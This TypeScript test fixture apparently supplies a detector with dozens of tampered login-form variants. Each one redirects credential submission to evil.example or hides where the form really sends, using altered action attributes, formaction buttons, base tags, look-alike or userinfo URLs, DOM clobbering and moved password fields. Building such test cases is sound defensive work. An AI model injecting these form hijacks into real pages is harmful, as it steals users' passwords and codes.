/** Forms that look like the honest one and send elsewhere: by attributes alone, as a mail or a careless page brings them. */
import { OWNER, STANDS, WAYS } from './claims.ts';
import type { Disguise } from './disguise.ts';

/** What both clients have in common: the form of the page and the field of the code in it. */
const puts: Omit<Disguise, 'claim'>[] = [
  {
    name: 'action-elsewhere',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'https://evil.example/take');
    },
  },
  {
    name: 'action-look-alike-host',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', `//${location.host}.evil.example/save`);
    },
  },
  {
    name: 'action-without-tls',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', `http://${location.host}/save`);
    },
  },
  {
    name: 'action-javascript',
    put: () => document.querySelector('form#account, form.new')?.setAttribute('action', 'javascript:void 0'),
  },
  {
    name: 'action-data',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'data:text/html,taken');
    },
  },
  {
    name: 'method-get',
    put: () => document.querySelector('form#account, form.new')?.setAttribute('method', 'get'),
  },
  {
    name: 'action-without-method',
    put: () => document.querySelector('form#account, form.new')?.setAttribute('action', '/redirect'),
  },
  {
    name: 'method-dialog',
    put: () => document.querySelector('form#account, form.new')?.setAttribute('method', 'dialog'),
  },
  {
    name: 'action-mailto',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'mailto:take@evil.example');
    },
  },
  {
    name: 'action-with-user',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', `https://${location.host}@evil.example/save`);
    },
  },
  {
    name: 'action-backslashes',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'https:\\\\evil.example\\save');
    },
  },
  {
    name: 'action-line-breaks',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'ht\ntps:/\t/evil.exa\nmple/save');
    },
  },
  {
    name: 'action-other-port',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', `https://${location.hostname}:8443/save`);
    },
  },
  {
    name: 'action-blob',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', `blob:https://${location.host}/0b8f2a64-1c1e-4c0e-9f0f-3a2b1c0d9e8f`);
    },
  },
  {
    name: 'action-sub-host',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', `https://static.${location.host}/save`);
    },
  },
  {
    name: 'target-frame',
    put: () => document.querySelector('form#account, form.new')?.setAttribute('target', 'inner'),
  },
];

const owners: Omit<Disguise, 'claim'>[] = [
  {
    name: 'formaction-inside',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML(
          'beforeend',
          '<button data-evil formaction="https://evil.example/take">添加</button>',
        ),
  },
  {
    name: 'formaction-outside',
    put: () => {
      const form = document.querySelector('form#account, form.new') as HTMLFormElement;
      form.id ||= 'honest';
      document.body.insertAdjacentHTML(
        'beforeend',
        `<button data-evil form="${form.id}" formmethod="post" formaction="https://evil.example/take">添加</button>`,
      );
    },
  },
  {
    name: 'input-image-outside',
    put: () => {
      const form = document.querySelector('form#account, form.new') as HTMLFormElement;
      form.id ||= 'honest';
      document.body.insertAdjacentHTML(
        'afterbegin',
        `<input data-evil type="image" alt="添加" form="${form.id}" formmethod="post" formaction="//evil.example/take">`,
      );
    },
  },
  {
    name: 'formmethod-get',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML('beforeend', '<input data-evil type="submit" formmethod="get" value="添加">'),
  },
  {
    name: 'formtarget',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML('beforeend', '<button data-evil formtarget="inner">添加</button>'),
  },
  {
    name: 'owner-by-form',
    put: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<form data-evil id="theirs" method="post" action="https://evil.example/take"></form>',
      );
      document.querySelector('#account_mail_pass, .new [data-field=code]')?.setAttribute('form', 'theirs');
    },
  },
  {
    name: 'base-elsewhere',
    put: () =>
      document.head.insertAdjacentHTML('afterbegin', '<base data-evil href="https://evil.example/">'),
  },
  {
    name: 'base-target',
    put: () => document.head.insertAdjacentHTML('afterbegin', '<base data-evil target="inner">'),
  },
  {
    name: 'base-in-the-body',
    put: () => {
      document.body.insertAdjacentHTML('beforeend', '<base data-evil href="https://evil.example/">');
      document.querySelector('form#account, form.new')?.setAttribute('method', 'post');
      document.querySelector('form#account, form.new')?.setAttribute('action', 'save');
    },
  },
  {
    name: 'sleeping-submitter',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML(
          'beforeend',
          '<fieldset data-evil disabled hidden><button formmethod="post" formaction="https://evil.example/take">添加</button></fieldset>',
        ),
  },
  {
    name: 'formmethod-dialog',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML('beforeend', '<button data-evil formmethod="dialog">添加</button>'),
  },
  {
    name: 'base-same-site',
    put: () => {
      document.head.insertAdjacentHTML('afterbegin', '<base data-evil href="/upload/">');
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'save');
    },
  },
  {
    name: 'masked-parent',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML('beforeend', '<input data-evil type="hidden" name="parentNode">'),
  },
  {
    name: 'masked-slot',
    put: () =>
      document
        .querySelector('form#account, form.new')
        ?.insertAdjacentHTML('beforeend', '<input data-evil type="hidden" name="assignedSlot">'),
  },
  {
    name: 'masked-attributes',
    put: () => {
      const form = document.querySelector('form#account, form.new');
      form?.setAttribute('method', 'post');
      form?.setAttribute('action', 'https://evil.example/take');
      form?.insertAdjacentHTML('beforeend', '<input data-evil type="hidden" name="action" value="/save">');
      form?.insertAdjacentHTML('beforeend', '<input data-evil type="hidden" name="getAttribute">');
    },
  },
];

const late: Omit<Disguise, 'claim' | 'late'>[] = [
  {
    name: 'field-moved',
    put: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<form data-evil id="theirs" method="post" action="https://evil.example/take"><button>添加</button></form>',
      );
      document
        .querySelector('#theirs')
        ?.prepend(document.querySelector('#account_mail_pass, .new [data-field=code]') as Node);
    },
  },
  {
    name: 'form-into-shadow-tree',
    put: () => {
      const host = document.createElement('div');
      document.body.append(host);
      host.attachShadow({ mode: 'open' }).append(document.querySelector('form#account, form.new') as Node);
    },
  },
];

/** Disguises that are found when the form stands empty, when it is filled, or both. */
const EARLY_ALONE = ['action-look-alike-host', 'action-without-tls', 'masked-attributes', 'base-same-site'];
const turning = [...puts, ...owners].filter(({ name }) => !EARLY_ALONE.includes(name));

export const ways: Disguise[] = [
  ...puts.map((one) => ({ ...one, claim: WAYS })),
  ...owners.map((one) => ({ ...one, claim: OWNER })),
  ...[...turning, ...late].map((one) => ({ ...one, name: `late-${one.name}`, claim: STANDS, late: true })),
];
